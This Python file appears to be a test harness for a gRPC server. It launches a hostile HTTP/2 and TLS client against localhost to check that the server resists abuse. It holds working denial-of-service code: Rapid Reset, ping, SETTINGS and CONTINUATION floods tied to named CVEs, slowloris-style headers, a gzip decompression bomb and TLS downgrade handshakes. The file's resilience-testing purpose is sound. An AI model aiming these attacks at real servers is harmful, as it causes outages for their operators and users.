"""A caller that means harm, as a process of its own: `python -m tests.server.abuser KIND PORT`.

It speaks raw TCP and HTTP/2 (RFC 9113) to 127.0.0.1, since a gRPC library would not do what is
done here. It prints one line once its abuse is under way, goes on until its standard input ends,
and prints how often it did what it does. Connections that the server closes are opened anew.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import ssl
import struct
import sys
import time
import warnings
import zlib
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
MUTE = 300
SLOW = 50
BATCH = 100
RATE = 10_000  # resets, pings, frames, connections: whatever a kind of abuse counts
PATIENCE = 0.3  # seconds for an answer, since the end of the abuse waits for it
BLOCK, BLOCKS = bytes(1 << 24), 64  # 1 GiB of zeros
METHOD = "/exprd.v1.AdminService/GetInfo"

Abuse = Callable[[int], Iterator[int]]


# ---- HTTP/2
def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame: 24 bits of length, kind, flags, stream."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def fields(**more: str) -> bytes:
    """The header block of a call: literals without indexing or Huffman code (RFC 7541, 6.2.2)."""
    rows = {
        ":method": "POST",
        ":scheme": "http",
        ":path": METHOD,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
        **{name.replace("_", "-"): value for name, value in more.items()},
    }
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in rows.items())


def _text(value: str) -> bytes:
    """A string of HPACK; its length has a prefix of 7 bits (RFC 7541, 5.1)."""
    data, rest = value.encode(), len(value) - 127
    if rest < 0:
        return bytes([len(data)]) + data
    length = b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 | 128])
        rest //= 128
    return length + bytes([rest]) + data


def connect(port: int, *, greet: bool = True) -> socket.socket:
    """A connection, with the greeting of HTTP/2."""
    end = socket.create_connection(("127.0.0.1", port), 10)
    end.settimeout(PATIENCE)
    if greet:
        end.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return end


def drain(end: socket.socket) -> bool:
    """Reads what is there; false when the other side has closed."""
    with contextlib.suppress(TimeoutError):
        while select.select([end], [], [], 0)[0]:
            if not end.recv(1 << 16):
                return False
    return True


# ---- kinds
def garbage(port: int) -> Iterator[int]:
    """Bytes that are no HTTP/2 at all, and frames that mean nothing."""
    noises = (
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        bytes(range(256)) * 100,
        PREFACE + b"\xff" * 1000,
        PREFACE + frame(SETTINGS, 0, 0, b"x"),
        PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, b"\xff" * 50),
        PREFACE + frame(SETTINGS, 0, 0) + frame(DATA, 0, 7, b"y" * 100),
    )
    while True:
        for noise in noises:
            with connect(port, greet=False) as end, contextlib.suppress(OSError):
                end.sendall(noise)
                end.shutdown(socket.SHUT_WR)
                while end.recv(1 << 16):
                    pass
            yield 1


def half_open(port: int) -> Iterator[int]:
    """Calls that begin and never go on, each on a connection that then falls silent."""
    ends = []
    while True:
        if len(ends) < MUTE:
            end = connect(port)
            end.sendall(frame(HEADERS, 0, 1, fields()[:20]))
            ends.append(end)
        yield len(ends) < MUTE


def mute(port: int) -> Iterator[int]:
    """Connections that say nothing."""
    ends = []
    while True:
        if len(ends) < MUTE:
            ends.append(connect(port, greet=False))
        yield len(ends) < MUTE


def slow(port: int) -> Iterator[int]:
    """Calls whose headers come byte by byte, on many connections."""
    block = fields(x="y" * 4000)
    whole = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, block)
    ends: list[tuple[socket.socket, int]] = []
    while True:
        if len(ends) < SLOW:
            ends.append((connect(port, greet=False), 0))
        kept = []
        for end, sent in ends:
            with contextlib.suppress(OSError):
                end.sendall(whole[sent : sent + 1])
                kept.append((end, sent + 1))
        ends = kept
        yield 1


def reset(port: int) -> Iterator[int]:
    """Calls that are begun and cancelled at once (CVE-2023-44487)."""
    block = fields()
    stop = struct.pack(">I", CANCEL)
    while True:
        with connect(port) as end, contextlib.suppress(OSError):
            stream = 1
            while drain(end):
                out = b""
                for _ in range(BATCH):
                    out += frame(HEADERS, END_HEADERS, stream, block)
                    out += frame(RST_STREAM, 0, stream, stop)
                    stream += 2
                end.sendall(out)
                yield BATCH
        yield 0


def ping(port: int) -> Iterator[int]:
    """Pings without a call (CVE-2019-9512)."""
    many = frame(PING, 0, 0, bytes(8)) * BATCH
    while True:
        with connect(port) as end, contextlib.suppress(OSError):
            while drain(end):
                end.sendall(many)
                yield BATCH
        yield 0


def elsewhere(_port: int) -> Iterator[int]:
    """As many pings, to a program that reads and forgets them: a busy machine without abuse."""
    many = frame(PING, 0, 0, bytes(8)) * BATCH
    with socket.create_server(("127.0.0.1", 0)) as listener:
        if os.fork() == 0:
            with listener.accept()[0] as end:
                while end.recv(1 << 16):
                    pass
            os._exit(0)
        with socket.create_connection(listener.getsockname()) as end:
            while True:
                end.sendall(many)
                yield BATCH


def settings(port: int) -> Iterator[int]:
    """Settings that want to be acknowledged (CVE-2019-9515)."""
    many = frame(SETTINGS, 0, 0) * BATCH
    while True:
        with connect(port) as end, contextlib.suppress(OSError):
            while drain(end):
                end.sendall(many)
                yield BATCH
        yield 0


def continuation(port: int) -> Iterator[int]:
    """Headers that never end (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, b"\0" + _text("x-more") + _text("y" * 8000))
    while True:
        with connect(port) as end, contextlib.suppress(OSError):
            end.sendall(frame(HEADERS, 0, 1, fields()))
            while drain(end):
                end.sendall(more)
                yield 1
        yield 0


def metadata(port: int) -> Iterator[int]:
    """17 KB of metadata."""
    block = fields(x="y" * 17_000)
    message = frame(HEADERS, 0, 1, block[:16_000]) + frame(
        CONTINUATION, END_HEADERS, 1, block[16_000:]
    )
    while True:
        yield _call(port, message + frame(DATA, END_STREAM, 1, _message(b"")))


def bomb(port: int) -> Iterator[int]:
    """A message of 1 MiB that becomes 1 GiB when it is unpacked."""
    block = frame(HEADERS, END_HEADERS, 1, fields(grpc_encoding="gzip"))
    whole = _message(_packed(), compressed=True)
    parts = [whole[i : i + 16_384] for i in range(0, len(whole), 16_384)]
    data = b"".join(frame(DATA, 0, 1, part) for part in parts[:-1])
    while True:
        yield _call(port, block + data + frame(DATA, END_STREAM, 1, parts[-1]))


def _packed() -> bytes:
    """Zeros as gzip packs them, made of equal parts; who sees the wrong checksum has unpacked."""
    packer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    part = packer.compress(BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    head = b"\x1f\x8b\x08" + bytes(7)
    return head + part * BLOCKS + packer.flush() + bytes(8)


def _message(data: bytes, *, compressed: bool = False) -> bytes:
    return struct.pack(">BI", compressed, len(data)) + data


def _call(port: int, data: bytes) -> int:
    """Sends a call, reading beside it, until the server has ended it."""
    with connect(port) as end, contextlib.suppress(OSError):
        view = memoryview(data)
        while view:
            view = view[end.send(view) :]
            if not drain(end):
                return 1
        end.shutdown(socket.SHUT_WR)
        while end.recv(1 << 16):
            pass
    return 1


def downgrade(port: int) -> Iterator[int]:
    """Handshakes of a version of TLS that is no longer safe."""
    context = _tls_context()
    context.set_ciphers("DEFAULT:@SECLEVEL=0")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        context.minimum_version = ssl.TLSVersion.TLSv1
        context.maximum_version = ssl.TLSVersion.TLSv1_1
    return _handshakes(port, context)


def stranger(port: int) -> Iterator[int]:
    """Handshakes without the certificate that is asked for."""
    return _handshakes(port, _tls_context())


def clear(port: int) -> Iterator[int]:
    """Calls that are not encrypted."""
    call = frame(HEADERS, END_HEADERS, 1, fields()) + frame(DATA, END_STREAM, 1, _message(b""))
    while True:
        yield _call(port, call)


def _tls_context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # it means harm, and trusts anybody
    context.set_alpn_protocols(["h2"])
    return context


def _handshakes(port: int, context: ssl.SSLContext) -> Iterator[int]:
    while True:
        with (
            contextlib.suppress(OSError),
            connect(port, greet=False) as plain,
            context.wrap_socket(plain) as end,
        ):
            end.recv(1)
        yield 1


KINDS: dict[str, Abuse] = {
    "garbage": garbage,
    "half_open": half_open,
    "mute": mute,
    "slow": slow,
    "reset": reset,
    "ping": ping,
    "settings": settings,
    "continuation": continuation,
    "metadata": metadata,
    "bomb": bomb,
}
TLS_KINDS: dict[str, Abuse] = {
    "clear": clear,
    "downgrade": downgrade,
    "stranger": stranger,
    "mute": mute,
}


PEER: dict[str, Abuse] = {"elsewhere": elsewhere}


def main() -> None:
    """Abuses the server until standard input ends, at most `RATE` times a second."""
    kind, port = {**KINDS, **TLS_KINDS, **PEER}[sys.argv[1]], int(sys.argv[2])
    count, begin = 0, time.monotonic()
    for number, done in enumerate(kind(port)):
        count += done
        if number == 1:
            sys.stdout.write("under way\n")
            sys.stdout.flush()
            # from here on it stands for another machine, and takes no core from those it is beside
            os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        ahead = begin + count / RATE - time.monotonic()
        if select.select([sys.stdin], [], [], max(ahead, 0.0 if done else 0.01))[0]:
            break
    sys.stdout.write(f"{count}\n")


if __name__ == "__main__":
    main()
